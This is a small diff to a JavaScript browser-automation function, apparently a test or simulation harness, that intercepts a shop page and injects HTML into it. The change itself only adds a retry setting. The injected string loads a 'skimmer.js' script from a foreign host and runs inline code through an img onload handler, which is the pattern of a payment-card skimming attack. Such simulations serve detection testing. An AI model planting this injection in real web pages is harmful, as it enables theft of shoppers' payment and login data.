@@ -71,7 +71,7 @@ async function injectHtml(page, { shopUrl, foreign }) {
     .catch(() => undefined);
   const injected = `<script src="${foreign}/skimmer.js"></script><script>${code}</script><img alt="" src="/icon.svg" onload="${code}">`;
   await page.route(`${shopUrl}/`, async (route) => {
-    const response = await route.fetch();
+    const response = await route.fetch({ maxRetries: 2 });
     const html = await response.text();
     await route.fulfill({ response, body: html.replace("</body>", `${injected}</body>`) });
   });
